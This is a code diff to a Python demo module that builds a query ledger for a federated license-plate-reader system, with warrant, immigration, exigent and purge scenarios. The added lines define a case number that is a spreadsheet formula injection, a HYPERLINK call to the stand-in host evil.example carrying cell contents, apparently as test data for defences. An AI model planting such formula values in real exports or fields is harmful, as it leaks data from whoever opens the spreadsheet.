@@ -4,7 +4,8 @@ Witnessed as the demo is (three witnesses, quorum two). What it holds, so each p
 something to show: a warrant query that reaches San Jose's node
 and is refused elsewhere, a warrantless query (refused), ICE's immigration-enforcement query
 (refused by the law of every state it names), a Texas sheriff's query reaching three other
-states, an exigent query left for judicial review, and Norfolk's signed purge report.
+states, a Chicago query whose case number is a spreadsheet formula, an exigent query left for
+judicial review, and Norfolk's signed purge report.
 """
 
 from __future__ import annotations
@@ -20,6 +21,8 @@ from agency_node.purge_delivery import PurgeReportDelivery
 from agency_node.storage import NodeStore
 from alprfed.config import load_node_config
 from alprfed.models import Purpose
+
+FORMULA_CASE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
 @dataclass(frozen=True)
@@ -80,10 +83,12 @@ def build_ledger(root: Path) -> BuiltLedger:
             "ice-ero", "agent-reyes", purpose=Purpose.IMMIGRATION_ENFORCEMENT, case_number="ICE-1"
         )
         federation.query("johnson-county-so", "deputy-hale", case_number="JC-7")
+        # An insider's case number that a spreadsheet would run as a formula.
+        federation.query("chicago-pd", "officer-walsh", case_number=FORMULA_CASE)
         exigent = federation.amber_alert("A-1")
     finally:
         stop_federation(federation)
     return BuiltLedger(federation, exigent.query_id, warrant)
 
 
-__all__ = ["SUSPECT", "BuiltLedger", "build_ledger"]
+__all__ = ["FORMULA_CASE", "SUSPECT", "BuiltLedger", "build_ledger"]
